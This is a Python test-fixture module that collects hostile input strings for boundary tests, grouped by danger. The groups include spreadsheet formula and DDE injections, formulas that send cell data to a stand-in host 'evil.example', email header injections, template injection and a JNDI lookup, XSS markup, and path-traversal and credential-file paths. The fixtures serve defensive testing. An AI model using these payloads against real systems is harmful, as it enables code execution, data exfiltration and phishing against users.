"""Text that people, or people who mean harm, can put into a form or a cell. Shared by every test of a border.

`PAYLOADS` is all of it, by name; the groups are there for tests that are about one danger.
"""

from __future__ import annotations

from pathlib import Path

#: Text a spreadsheet would run if it were entered instead of stored.
FORMULAS: tuple[str, ...] = (
    "=1+1",
    "=SUM(A1:A9)",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    '=HYPERLINK("http://evil.example/?x="&A1,"Invoice")',
    '=HYPERLINK("javascript:alert(1)","click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2:E2),"//a")',
    '=IMPORTDATA("http://evil.example/steal?d="&CONCATENATE(A1:Z99))',
    '=IMPORTHTML("http://evil.example","table",1)',
    '=IMPORTFEED("http://evil.example/feed")',
    '=IMPORTRANGE("1AbCdEf","Customers!A1:Z")',
    '=IMAGE("http://evil.example/pixel.png?"&A1)',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=QUERY(Customers!A:Z,"select *")',
    '=GOOGLEFINANCE("GOOG")',
    '=GOOGLETRANSLATE(A1,"en","zh")',
    '=INDIRECT("Customers!F2")',
    "=ARRAYFORMULA(Customers!F:F)",
    '=FILTER(Customers!A:Z,Customers!A:A<>"")',
    "=LAMBDA(x,x+1)(1)",
    "=SPARKLINE(A1:A9)",
    "=RAND()",
    "=NOW()",
    "=1/0",
    "=A1",
    "{=1+1}",
    "{=SUM(A1:A9*B1:B9)}",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "'=1+1",
    '"=1+1"',
    ";=1+1",
    ",=1+1",
    '=1+1";=1+1;"',
    "=-1",
    "+49 170 1234567",
    "-@=+",
    "00123",
    "12E3",
    "1-2",
    "TRUE",
    "#REF!",
    "#N/A",
    "Loading...",
)

#: Text that would end a header and begin another one.
HEADERS: tuple[str, ...] = (
    "A\r\nBcc: victim@evil.example",
    "A\nBcc: victim@evil.example",
    "A\rBcc: victim@evil.example",
    "A\r\n\r\n<h1>body</h1>",
    "A\x00B",
    "A\x0bBcc: victim@evil.example",
    "A\x0cBcc: victim@evil.example",
    "A\x1cBcc: victim@evil.example",
    "A\x85Bcc: victim@evil.example",
    "A\u2028Bcc: victim@evil.example",
    "A\u2029Bcc: victim@evil.example",
    "A%0d%0aBcc: victim@evil.example",
    "=?utf-8?q?A=0D=0ABcc:_victim@evil.example?=",
    "=?utf-8?b?QQ0KQmNjOiB2aWN0aW1AZXZpbC5leGFtcGxl?=",
    'A" <victim@evil.example>, "B',
    "victim@evil.example, other@evil.example",
    "<victim@evil.example>",
    "A\r\n.\r\nMAIL FROM:<x@evil.example>",
    "--=_order-desk\r\nContent-Type: text/html\r\n\r\n<h1>x</h1>",
    "Content-Disposition: attachment; filename=x.exe",
)

#: Text a template engine, a formatter or a shell would run.
TEMPLATES: tuple[str, ...] = (
    "{{7*7}}",
    "{{ config.items() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% raw %}{{7*7}}{% endraw %}",
    "{% include '/etc/passwd' %}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "{# gone #}",
    "{%",
    "}}{{",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "{name.__class__.__init__.__globals__}",
    "{order_no}",
    "{}",
    "{",
    "%(name)s %s %n",
    "$(id)",
    "`id`",
    "${jndi:ldap://evil.example/a}",
)

#: Text a mail reader would show as something else than text.
MARKUP: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="http://evil.example">Pay here</a>',
    "</td></tr></table><h1>Pay here</h1>",
    "</title><script>alert(1)</script>",
    "</style><style>*{display:none}</style>",
    "<style>@import url(http://evil.example/x.css);</style>",
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    "<iframe src='http://evil.example'></iframe>",
    "<svg/onload=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" style="position:fixed;inset:0',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<!-- comment -->",
    "--><b>x</b><!--",
    "<![CDATA[<b>x</b>]]>",
    "&lt;b&gt; &amp; &#39;",
    "&",
    "<",
    "Müller & Söhne <Berlin> \"GmbH\" 'x'",
    "<form action=http://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example>",
    "http://evil.example/pay?order=1",
    "https://user:pw@evil.example/",
    "www.evil.example",
    "mailto:victim@evil.example?bcc=x@evil.example",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
)

#: Files that exist: some libraries attach a text that names one.
PATHS: tuple[str, ...] = (
    "/etc/passwd",
    "/etc/hosts",
    "../../../../../../etc/passwd",
    "~/.ssh/id_rsa",
    "/dev/zero",
    "C:\\Windows\\win.ini",
    str(Path(__file__).resolve()),
    "pyproject.toml",
    "..",
    "/",
    "NUL",
    "order\x00.txt",
)

#: Text that is read otherwise than it is stored.
INVISIBLE: tuple[str, ...] = (
    "\u202egnp.exe",
    "total \u202e0001\u202c CNY",
    "\u2066isolate\u2069 \u2067rtl\u2069",
    "\u202aembed\u202c",
    "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "\u200b",
    "\u00ad\u00ad\u00ad",
    "\u200f\u200e",
    "שלום עולם",
    "مرحبا ١٢٣",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0352\u0360l\u0348g\u0355o",
    "👩\u200d👩\u200d👧\u200d👦 family",
    "\ud800",
    "\udfff lone",
    "\ufffe\uffff",
    "\x1b[31mred\x1b[0m",
    "\x07\x08\x7f",
    "ｆｕｌｌ　ｗｉｄｔｈ",
    "𠮷野家 𠀋",
    "a\u0301 = á",
)

#: Text that is larger than anyone planned for.
LONG: tuple[str, ...] = (
    "x" * 5_000,
    "很长" * 2_500,
    "word " * 2_000,
    "line\n" * 500,
    "W" * 49_999,
    "<" * 5_000,
    "&amp;" * 1_000,
    "\u202e" * 1_000,
    "😀" * 1_500,
)

#: Numbers as text that some reader will choke on.
NUMBERS: tuple[str, ...] = (
    "9" * 400,
    "1e308",
    "1e309",
    "-1e-400",
    "NaN",
    "Infinity",
    "-0",
    "0x1F",
    "1_000",
    "١٢٣",
    "１２３",
    "½",
    "1.234,56",
    "99999999999999999999.99",
)

PAYLOADS: dict[str, str] = {
    f"{group}-{index:02d}": text
    for group, texts in (
        ("formula", FORMULAS),
        ("header", HEADERS),
        ("template", TEMPLATES),
        ("markup", MARKUP),
        ("path", PATHS),
        ("invisible", INVISIBLE),
        ("long", LONG),
        ("number", NUMBERS),
    )
    for index, text in enumerate(texts)
}
